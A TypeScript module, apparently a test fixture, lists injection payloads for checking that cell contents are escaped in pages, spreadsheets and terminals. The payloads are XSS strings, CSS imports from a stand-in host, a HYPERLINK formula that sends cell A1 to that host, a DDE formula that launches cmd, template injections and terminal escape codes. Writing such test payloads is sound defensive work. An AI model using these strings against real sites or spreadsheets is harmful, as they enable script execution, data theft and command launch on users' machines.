/**
 * What somebody may put into a cell so that a page, a sheet, a terminal or a program takes it for more than text. Those of
 * pages set a flag of their own where they run; addresses that a page should load end with a letter of their own.
 */
export const payloads = {
  element: '<img src=x onerror="top.taken=1;window.taken=1">',
  'end of an attribute': '"\'><svg/onload="window.taken=2" onmouseover=\'window.taken=2\'>',
  'end of a script': '</script></title></style><script>window.taken=3</script>',
  comment: '<!--<script>window.taken=4',
  address: 'javascript:window.taken=5//<a href="javascript:window.taken=5">',
  entities: '&lt;img src=x onerror=window.taken=6&gt;&#x3c;b&#62;',
  style: '</style><style>*{background:url(https://taken.example/y)}</style>{}*/@import "//taken.example"',
  link: '=HYPERLINK("https://taken.example/z?"&A1,"ok")',
  program: "+cmd|' /C calc'!A0",
  formula: '@SUM(1+1)*cmd',
  'before a formula': '\t=1+1\r\n-2+3',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of the tricks.
  template: '${window.taken=7}`{{constructor.constructor("window.taken=7")()}}<?= window.taken=7 ?>\u2028\'=1',
  'other direction': '\u202e\u200b\u2066=1+1\u0000\u001b[31m\u009b2J\u001b]0;taken\u0007</text></svg><svg onload=window.taken=8>',
} as const;

export type PayloadId = keyof typeof payloads;
export const payloadIds = Object.keys(payloads) as PayloadId[];
